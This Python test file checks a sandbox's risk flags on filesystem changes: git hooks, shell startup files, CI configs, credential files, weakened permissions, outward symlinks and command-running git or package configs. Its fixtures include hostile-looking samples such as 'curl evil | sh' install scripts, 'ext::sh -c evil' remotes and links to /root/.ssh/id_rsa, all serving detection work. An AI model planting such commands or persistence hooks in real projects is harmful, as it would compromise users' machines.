"""Risk flags: the rules on their own, then on real change layers through the store."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest
from changes_fs import build

from sandbox.changes import ChangesetStore, render_changeset, risk
from sandbox.changes.layers import read_changes
from sandbox.types import Change, ChangeKind, Changeset, EntryType

MakeChangeset = Callable[[Callable[[Path], None]], Changeset]


def reader(data: bytes) -> risk.Reader:
    return lambda limit: data[:limit]


def added(path: str, content: bytes = b"x\n", mode: int = 0o644) -> tuple[str, ...]:
    change = Change(path, ChangeKind.ADDED, new_type=EntryType.FILE, new_mode=mode, new_size=len(content))
    return risk.assess(change, new=reader(content))


def modified(path: str, old: bytes, new: bytes, mode: int = 0o644) -> tuple[str, ...]:
    change = Change(path, ChangeKind.MODIFIED, EntryType.FILE, EntryType.FILE, mode, mode)
    return risk.assess(change, old=reader(old), new=reader(new))


# -- paths -----------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("path", "flag"),
    [
        (".git/hooks/pre-commit", risk.GIT_HOOK),
        ("vendor/lib/.git/hooks/post-checkout", risk.GIT_HOOK),
        (".git/modules/sub/hooks/pre-push", risk.GIT_HOOK),
        ("mirror.git/hooks/post-receive", risk.GIT_HOOK),
        (".husky/pre-commit", risk.GIT_HOOK),
        (".bashrc", risk.SHELL_STARTUP),
        ("home/alice/.zshenv", risk.SHELL_STARTUP),
        (".profile", risk.SHELL_STARTUP),
        ("project/.envrc", risk.SHELL_STARTUP),
        (".config/fish/config.fish", risk.SHELL_STARTUP),
        (".config/fish/conf.d/evil.fish", risk.SHELL_STARTUP),
        (".bashrc.d/10-path.sh", risk.SHELL_STARTUP),
        (".config/autostart/updater.desktop", risk.AUTOSTART),
        (".config/systemd/user/backdoor.service", risk.AUTOSTART),
        (".local/share/systemd/user/x.timer", risk.AUTOSTART),
        (".venv/lib/python3.11/site-packages/zz.pth", risk.AUTOSTART),
        ("src/sitecustomize.py", risk.AUTOSTART),
        (".ssh/authorized_keys", risk.SSH),
        (".ssh/config", risk.SSH),
        (".ssh/rc", risk.SSH),
        (".github/workflows/ci.yml", risk.CI_CONFIG),
        (".github/actions/setup/action.yml", risk.CI_CONFIG),
        (".gitlab-ci.yml", risk.CI_CONFIG),
        (".circleci/config.yml", risk.CI_CONFIG),
        ("Jenkinsfile", risk.CI_CONFIG),
        ("ci/Jenkinsfile.release", risk.CI_CONFIG),
        (".travis.yml", risk.CI_CONFIG),
        ("azure-pipelines.yml", risk.CI_CONFIG),
        (".buildkite/pipeline.yml", risk.CI_CONFIG),
        (".ci/run", risk.CI_CONFIG),
        (".vscode/tasks.json", risk.TASK_CONFIG),
        (".vscode/settings.json", risk.TASK_CONFIG),
        (".devcontainer/devcontainer.json", risk.TASK_CONFIG),
        ("app.code-workspace", risk.TASK_CONFIG),
        (".idea/runConfigurations/Run.xml", risk.TASK_CONFIG),
        (".exrc", risk.TASK_CONFIG),
        (".env", risk.CREDENTIALS),
        ("deploy/.env.production", risk.CREDENTIALS),
        ("prod.env", risk.CREDENTIALS),
        (".ssh/id_ed25519", risk.CREDENTIALS),
        (".aws/credentials", risk.CREDENTIALS),
        (".netrc", risk.CREDENTIALS),
        (".git-credentials", risk.CREDENTIALS),
        ("signing/release.p12", risk.CREDENTIALS),
    ],
)
def test_paths_that_run_on_the_host_or_hold_secrets_are_flagged(path: str, flag: str) -> None:
    assert flag in added(path)


@pytest.mark.parametrize(
    "path",
    [
        "src/app.py",
        ".git/hooks/pre-commit.sample",  # git never runs *.sample
        ".git/refs/heads/hooks",
        ".git/objects/ab/cdef",
        "docs/github/workflows.md",
        "workflows/ci.yml",
        ".env.example",
        ".env.template",
        "bashrc.txt",
        "lib/site-packages-notes.pth.txt",
        "id_ed25519.pub",
        ".vscode/extensions.json",
        "Makefile",  # build files are not flagged: see docs/audit.md
        "README.md",
    ],
)
def test_ordinary_paths_are_not_flagged(path: str) -> None:
    assert added(path) == ()


def test_deleted_refused_and_directory_changes_are_not_flagged() -> None:
    gone = Change(".bashrc", ChangeKind.DELETED, old_type=EntryType.FILE, old_mode=0o644)
    refused = Change(".git/hooks/x", ChangeKind.ADDED, new_type=EntryType.FILE, new_mode=0o755, refused="fifo")
    folder = Change(".github/workflows", ChangeKind.ADDED, new_type=EntryType.DIR, new_mode=0o755)
    assert [risk.assess(c) for c in (gone, refused, folder)] == [(), (), ()]


def test_links_at_risky_paths_are_flagged_without_being_read() -> None:
    def link(path: str) -> tuple[str, ...]:
        change = Change(path, ChangeKind.ADDED, new_type=EntryType.SYMLINK, new_target="payload")
        return risk.assess(change, new=lambda limit: pytest.fail("a link is never read"))

    assert link(".git/hooks/pre-commit") == (risk.GIT_HOOK,)
    assert link(".bashrc") == (risk.SHELL_STARTUP,)
    assert link(".git") == (risk.GIT_CONFIG,)
    assert link(".git/config") == (risk.GIT_CONFIG,)
    assert link("package.json") == (risk.PACKAGE_SCRIPTS,)
    assert link("src/current") == ()
    replaced = Change(".git/hooks", ChangeKind.TYPE, EntryType.DIR, EntryType.SYMLINK, 0o755, None, None, "/tmp/h")
    assert risk.assess(replaced) == (risk.GIT_HOOK, risk.OUTWARD_LINK)


def link_to(path: str, target: str) -> tuple[str, ...]:
    return risk.assess(Change(path, ChangeKind.ADDED, new_type=EntryType.SYMLINK, new_target=target))


@pytest.mark.parametrize(
    ("path", "target"),
    [
        ("key", "/root/.ssh/id_rsa"),
        ("a/b/up", "../../../etc/passwd"),
        ("up", ".."),
        ("sub/x", "../.."),
        ("x", "sub/../../y"),  # lexically inside, but sub may itself be a link
        ("x", "a/./../b"),
        ("x", "//etc"),
    ],
)
def test_links_pointing_outside_the_workspace_are_flagged(path: str, target: str) -> None:
    assert risk.OUTWARD_LINK in link_to(path, target)


@pytest.mark.parametrize(("path", "target"), [("a/b/c", "../d"), ("current", "releases/v2"), ("x", "./y"),
                                              ("a/up", ".."), ("dot", ".")])
def test_links_inside_the_workspace_are_not(path: str, target: str) -> None:
    assert link_to(path, target) == ()


def test_links_to_flagged_paths_carry_their_flags() -> None:
    assert link_to("notes.txt", ".git/hooks/pre-commit") == (risk.GIT_HOOK,)
    assert link_to("docs/h", "../.git/hooks") == (risk.GIT_HOOK,)
    assert link_to("cfg", ".git/config") == (risk.GIT_CONFIG,)
    assert link_to("rc", "home/.bashrc") == (risk.SHELL_STARTUP,)
    assert link_to("k", ".ssh/authorized_keys") == (risk.SSH,)


# -- permissions -----------------------------------------------------------------------------------
def mode(path: str, old: int, new: int, entry: EntryType = EntryType.FILE) -> tuple[str, ...]:
    return risk.assess(Change(path, ChangeKind.MODE, entry, entry, old, new))


@pytest.mark.parametrize(
    ("path", "old", "new", "entry"),
    [
        (".bashrc", 0o644, 0o666, EntryType.FILE),
        (".bashrc", 0o644, 0o664, EntryType.FILE),  # group write on a start-up file
        (".ssh/authorized_keys", 0o600, 0o666, EntryType.FILE),
        (".ssh/id_ed25519", 0o600, 0o644, EntryType.FILE),  # a private key readable by all
        (".env", 0o600, 0o640, EntryType.FILE),
        (".git/hooks", 0o755, 0o777, EntryType.DIR),
        (".git/hooks", 0o755, 0o775, EntryType.DIR),
        (".git", 0o755, 0o775, EntryType.DIR),
        (".ssh", 0o700, 0o770, EntryType.DIR),
        (".github/workflows", 0o755, 0o775, EntryType.DIR),
        ("src/app.py", 0o644, 0o646, EntryType.FILE),  # anything writable by all
        ("shared", 0o1777, 0o0777, EntryType.DIR),  # sticky bit removed
        (".git/config", 0o644, 0o664, EntryType.FILE),
    ],
)
def test_weakened_permissions_are_flagged(path: str, old: int, new: int, entry: EntryType) -> None:
    assert risk.WEAK_PERMISSIONS in mode(path, old, new, entry)


@pytest.mark.parametrize(
    ("path", "old", "new", "entry"),
    [
        ("src/app.py", 0o644, 0o664, EntryType.FILE),  # group write on an ordinary file
        (".bashrc", 0o666, 0o644, EntryType.FILE),  # narrowing
        ("tmp", 0o755, 0o1777, EntryType.DIR),  # a sticky world-writable folder, like /tmp
        ("src", 0o755, 0o775, EntryType.DIR),
        ("README.md", 0o600, 0o644, EntryType.FILE),
    ],
)
def test_ordinary_permission_changes_are_not(path: str, old: int, new: int, entry: EntryType) -> None:
    assert mode(path, old, new, entry) == ()


def test_new_world_writable_entries_and_folders_are_flagged() -> None:
    assert risk.WEAK_PERMISSIONS in added("notes.txt", mode=0o666)
    folder = Change(".git/hooks", ChangeKind.ADDED, new_type=EntryType.DIR, new_mode=0o777)
    assert risk.assess(folder) == (risk.WEAK_PERMISSIONS,)
    assert added(".bashrc", mode=0o664) == (risk.SHELL_STARTUP, risk.WEAK_PERMISSIONS)


# -- exec bit --------------------------------------------------------------------------------------
def test_exec_bit_on_new_files_and_mode_changes_that_add_it() -> None:
    assert added("tools/run.sh", mode=0o755) == (risk.EXEC_BIT,)
    assert added("tools/run.sh", mode=0o644) == ()
    gain = Change("run.sh", ChangeKind.MODE, EntryType.FILE, EntryType.FILE, 0o644, 0o744)
    lose = Change("run.sh", ChangeKind.MODE, EntryType.FILE, EntryType.FILE, 0o755, 0o644)
    other = Change("run.sh", ChangeKind.MODE, EntryType.FILE, EntryType.FILE, 0o755, 0o775)
    assert [risk.assess(c) for c in (gain, lose, other)] == [(risk.EXEC_BIT,), (), ()]
    hook = Change(".git/hooks/pre-commit", ChangeKind.MODE, EntryType.FILE, EntryType.FILE, 0o644, 0o755)
    assert risk.assess(hook) == (risk.GIT_HOOK, risk.EXEC_BIT)
    hook_off = Change(".git/hooks/pre-commit", ChangeKind.MODE, EntryType.FILE, EntryType.FILE, 0o755, 0o644)
    assert risk.assess(hook_off) == ()
    assert modified("bin/tool", b"a", b"b", mode=0o755) == ()  # already executable: an edit grants nothing new
    new_type = Change("bin", ChangeKind.TYPE, EntryType.DIR, EntryType.FILE, 0o755, 0o755)
    assert risk.assess(new_type, new=reader(b"#!/bin/sh\n")) == (risk.EXEC_BIT,)


# -- git config --------------------------------------------------------------------------------------
PLAIN_CONFIG = b"[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n"


@pytest.mark.parametrize(
    "extra",
    [
        b"[core]\n\thooksPath = .githooks\n",
        b"[core]\n\tfsmonitor = ./watch.sh\n",
        b"[core]\n\tsshCommand = ssh -o ProxyCommand=evil\n",
        b'[alias]\n\tst = "!sh -c \'curl x | sh\'"\n',
        b"[alias] co = !./co.sh\n",
        b'[filter "lfs"]\n\tsmudge = ./smudge %f\n',
        b'[diff "pdf"]\n\ttextconv = ./conv\n',
        b"[include]\n\tpath = ../shared.gitconfig\n",
        b'[includeIf "gitdir:~/"]\n\tpath = x\n',
        b"[pager]\n\tlog = ./pager\n",
        b'[submodule "x"]\n\tupdate = !./run\n',
        b"[credential]\n\thelper = store\n",
    ],
)
def test_git_config_that_runs_commands_is_flagged(extra: bytes) -> None:
    assert modified(".git/config", PLAIN_CONFIG, PLAIN_CONFIG + extra) == (risk.GIT_CONFIG,)
    assert added("sub/.git/config", PLAIN_CONFIG + extra) == (risk.GIT_CONFIG,)
    assert added(".gitconfig", extra) == (risk.GIT_CONFIG,)


def test_git_config_without_commands_is_not_flagged() -> None:
    assert added(".git/config", PLAIN_CONFIG) == ()  # what `git init` writes
    remote = PLAIN_CONFIG + b'[remote "origin"]\n\turl = https://example.org/x.git\n[alias]\n\tco = checkout\n'
    assert modified(".git/config", PLAIN_CONFIG, remote) == ()
    hooked = PLAIN_CONFIG + b"[core]\n\thooksPath = h\n"
    assert modified(".git/config", hooked, hooked + b"[user]\n\tname = A\n") == ()  # it was already there


def test_a_git_file_redirecting_the_repository_is_flagged() -> None:
    assert added("sub/.git", b"gitdir: ../evil/.git\n") == (risk.GIT_CONFIG,)
    assert added("sub/.git", b"\xef\xbb\xbfgitdir: ../evil/.git\n") == (risk.GIT_CONFIG,)


@pytest.mark.parametrize(
    "config",
    [
        b"\xef\xbb\xbf[core]\n\tfsmonitor = evil\n",  # a byte-order mark before the section
        b"[core]\n\tx = y \\\n[user]\n\tfsmonitor = evil\n",  # a continuation swallows a fake header
        b"[CORE]\n\tFSMONITOR = evil\n",
        b"[core]\n\tfsmonitor = \"ev\" il # comment\n",
        b"[core]\n\tfsmonitor = a\\\n\tb\n",  # a value continued on the next line
        b"[core]\n" + b"# padding\n" * 200_000 + b"\tfsmonitor = evil\n",  # after the first MiB
        b"[core]\r\n\tpager = less\r\n",
        b'[remote "o"]\n\turl = ext::sh -c evil\n',
        b"[protocol]\n\tallow = always\n",
        b'[url "ext::sh -c evil #"]\n\tinsteadOf = https://\n',
        b"[alias]\n\tlg = -c core.pager=evil log\n",
        b"[sendemail]\n\tsendmailCmd = evil\n",
        b'[gpg "ssh"]\n\tprogram = evil\n',
        b"[core]\n\talternateRefsCommand = evil\n",
        b'[credential "https://x"]\n\thelper = evil\n',
        b"[init]\n\ttemplateDir = t\n",
    ],
)
def test_git_config_is_read_as_git_reads_it(config: bytes) -> None:
    assert added(".git/config", config) == (risk.GIT_CONFIG,)
    assert modified(".git/config", PLAIN_CONFIG, PLAIN_CONFIG + config.lstrip(b"\xef\xbb\xbf")) == (risk.GIT_CONFIG,)


def test_a_fake_section_inside_a_value_is_not_a_section() -> None:
    # git reads `[core]` here as part of user.name: nothing runs, nothing is flagged
    assert added(".git/config", b"[user]\n\tname = x \\\n[core] fsmonitor = y\n[user]\n\temail = a\n") == ()


def test_a_git_config_git_refuses_is_flagged_when_it_changes() -> None:
    assert added(".git/config", b"[core\n\tfsmonitor = x\n") == (risk.GIT_CONFIG,)
    assert modified(".git/config", b"[core\n", b"[core\n") == ()


def test_a_git_config_too_large_to_read_is_flagged() -> None:
    big = PLAIN_CONFIG + b"#" * risk.CONFIG_LIMIT
    assert added(".git/config", big) == (risk.GIT_CONFIG, risk.TOO_LARGE)


# -- package scripts ---------------------------------------------------------------------------------
def test_package_scripts_changes_are_flagged_other_edits_are_not() -> None:
    base = {"name": "app", "version": "1.0.0", "scripts": {"test": "jest"}}
    old = json.dumps(base).encode()
    bumped = json.dumps({**base, "version": "1.0.1"}).encode()
    hooked = json.dumps({**base, "scripts": {"test": "jest", "postinstall": "node x.js"}}).encode()
    assert modified("package.json", old, bumped) == ()
    assert modified("package.json", old, hooked) == (risk.PACKAGE_SCRIPTS,)
    assert added("web/package.json", hooked) == (risk.PACKAGE_SCRIPTS,)
    assert added("web/package.json", b'{"name": "x"}') == ()
    assert modified("composer.json", b"{}", b'{"scripts": {"post-install-cmd": "x"}}') == (risk.PACKAGE_SCRIPTS,)
    assert added("package.json", b'{"scripts": {"x": "y"}, oops') == (risk.PACKAGE_SCRIPTS,)


def test_package_scripts_are_read_whole_as_json() -> None:
    padding = json.dumps({"description": "x" * (2 * 1024 * 1024)})[1:-1].encode()
    late = b'{' + padding + b', "scripts": {"preinstall": "curl evil | sh"}}'
    assert added("package.json", late) == (risk.PACKAGE_SCRIPTS,)
    assert modified("package.json", b'{' + padding + b'}', late) == (risk.PACKAGE_SCRIPTS,)
    escaped = b'{"scr\\u0069pts": {"install": "evil"}}'  # JSON escapes spell the same key
    assert added("package.json", escaped) == (risk.PACKAGE_SCRIPTS,)
    assert added("package.json", b"\xef\xbb\xbf" + escaped) == (risk.PACKAGE_SCRIPTS,)
    assert added("package.json", b'{"gypfile": true}') == (risk.PACKAGE_SCRIPTS,)
    assert added("package.json", b"[" * 100_000 + b"]" * 100_000) == (risk.PACKAGE_SCRIPTS,)  # too deep


# -- credentials -------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "content",
    [
        b"-----BEGIN RSA PRIVATE KEY-----\nMIIEow...\n",
        b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn...\n",
        b"-----BEGIN PRIVATE KEY-----\n",
        b"aws_access_key_id = AKIAZ7VQ3KXHJ2MNPQ4R\n",
        b"export GITHUB_TOKEN=ghp_" + b"a1B2c3D4" * 5 + b"\n",
        b'token: "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz"\n',
        b"OPENAI_API_KEY=sk-proj-" + b"Ab1" * 15 + b"\n",
        b'slack = "xoxb-123456789012-abcdefABCDEF"\n',
        b'password = "hunter2hunter2"\n',
        b"DB_PASSWORD=Xk9#mQ2vLp8z\n",
        b'{"client_secret": "8dF3kLq9Zp2Xw7Rt"}\n',
        b"api_key: Q2x8Lm4Np7Rt1Vw9\n",
        b"DATABASE_URL=postgres://admin:S3cr3tPassw0rd@db.internal:5432/app\n",
    ],
)
def test_content_that_looks_like_credentials_is_flagged(content: bytes) -> None:
    assert added("src/settings.py", b"# settings\n" + content) == (risk.CREDENTIALS,)


@pytest.mark.parametrize(
    "content",
    [
        b"password = os.environ['DB_PASSWORD']\n",
        b"secret = get_secret_from_vault()\n",
        b'password_field = "password_input_box"\n',
        b'tokenizer_name = "bert-base-uncased"\n',
        b"max_tokens = 1234567890123\n",
        b'password = "${DB_PASSWORD}"\n',
        b"token: ${{ secrets.GITHUB_TOKEN }}\n",
        b'api_key = "your-api-key-here"\n',
        b"aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n",  # the documentation's example key
        b'monkey = "Abcdefgh12345678"\n',
        b"url = https://example.org/path:with:colons@x\n",
        b"the desk-topography of a task-runnerconfigurationvalue\n",
        b"-----BEGIN PUBLIC KEY-----\n",
    ],
)
def test_ordinary_content_is_not_flagged(content: bytes) -> None:
    assert added("src/settings.py", content) == ()


def test_a_credential_already_there_is_not_flagged_again() -> None:
    old = b'password = "hunter2hunter2"\nname = "a"\n'
    assert modified("conf.ini", old, old.replace(b'"a"', b'"b"')) == ()
    assert modified("conf.ini", old, old + b'token = "Zq8Wx3Lm9Pt2Rv7"\n') == (risk.CREDENTIALS,)


def test_credentials_are_looked_for_in_the_whole_file_or_it_is_too_large() -> None:
    key = b"-----BEGIN OPENSSH PRIVATE KEY-----\n"
    assert added("big.log", b"x" * (2 * 1024 * 1024) + key) == (risk.CREDENTIALS,)
    assert added("big.log", b"x" * (risk.SCAN_LIMIT - 100) + key) == (risk.CREDENTIALS,)
    assert added("big.log", b"x" * risk.SCAN_LIMIT + key) == (risk.TOO_LARGE,)
    assert added("big.log", b"x" * (risk.SCAN_LIMIT + 1)) == (risk.TOO_LARGE,)


def test_every_flag_is_described_and_namespaced() -> None:
    assert all(flag.startswith("risk.") and text for flag, text in risk.RISKS.items())
    assert len(risk.RISKS) == 13


def test_file_reader_does_not_follow_links(tmp_path: Path) -> None:
    (tmp_path / "real").write_bytes(b"-----BEGIN PRIVATE KEY-----")
    os.symlink("real", tmp_path / "link")
    assert risk.file_reader(str(tmp_path / "real"))(5) == b"-----"
    assert risk.file_reader(str(tmp_path / "link"))(100) is None
    assert risk.file_reader(str(tmp_path / "missing"))(100) is None


# -- on real layers ----------------------------------------------------------------------------------
def test_read_changes_flags_what_the_layer_holds(tmp_path: Path) -> None:
    lower, upper = tmp_path / "lower", tmp_path / "upper"
    build(lower, {
        ".git": {"config": PLAIN_CONFIG, "hooks": {"pre-commit.sample": (b"#!/bin/sh\n", 0o755)}},
        "run.sh": (b"#!/bin/sh\n", 0o644),
        "conf.ini": b'password = "hunter2hunter2"\nname = "a"\n',
        "src": {"app.py": b"print(1)\n"},
    })
    build(upper, {
        ".git": {
            "config": PLAIN_CONFIG + b"[core]\n\thooksPath = .h\n",
            "hooks": {"post-checkout": (b"#!/bin/sh\ncurl x | sh\n", 0o755)},
        },
        "run.sh": (b"#!/bin/sh\n", 0o755),  # chmod +x
        "conf.ini": b'password = "hunter2hunter2"\nname = "b"\n',  # an unrelated edit
        ".bashrc": ("link", "src/app.py"),
        "src": {"app.py": b"print(2)\n", "keys.pem": b"-----BEGIN EC PRIVATE KEY-----\n"},
    })
    risks = {r.path: r.change.risks for r in read_changes(str(upper), [str(lower)])}
    assert risks == {
        ".bashrc": (risk.SHELL_STARTUP,),
        ".git/config": (risk.GIT_CONFIG,),
        ".git/hooks/post-checkout": (risk.GIT_HOOK, risk.EXEC_BIT),
        "conf.ini": (),
        "run.sh": (risk.EXEC_BIT,),
        "src/app.py": (),
        "src/keys.pem": (risk.CREDENTIALS,),
    }


def test_risks_are_kept_with_the_changeset_shown_and_in_json(
    store: ChangesetStore, workspace: Path, make_changeset: MakeChangeset
) -> None:
    build(workspace, {"src": {"app.py": b"x = 1\n"}})

    def write(upper: Path) -> None:
        build(upper, {
            ".github": {"workflows": {"ci.yml": b"on: push\njobs: {}\n"}},
            ".env": b"API_TOKEN=Zq8Wx3Lm9Pt2Rv7\n",
            "src": {"app.py": b"x = 2\n"},
        })

    cs = make_changeset(write)
    again = store.get(cs.id)  # read back from changes.json
    by_path = {c.path: c for c in again.changes}
    assert by_path[".github/workflows/ci.yml"].risks == (risk.CI_CONFIG,)
    assert by_path[".env"].risks == (risk.CREDENTIALS,)
    assert by_path["src/app.py"].risks == ()
    assert again == cs
    as_json = {c["path"]: c for c in again.to_json()["changes"]}
    assert as_json[".env"]["risks"] == ["risk.credentials"]
    assert "risks" not in as_json["src/app.py"]
    text = render_changeset(again, color=False)
    assert "A  .github/workflows/ci.yml  (file, 0644, +2 -0)  RISK: risk.ci_config" in text
    assert "RISK: risk.credentials" in text
    assert text.count("RISK") == 2
    result = store.apply(cs.id, sha256=cs.sha256)  # flags change nothing about the commit
    assert set(result.applied) >= {".env", "src/app.py"}
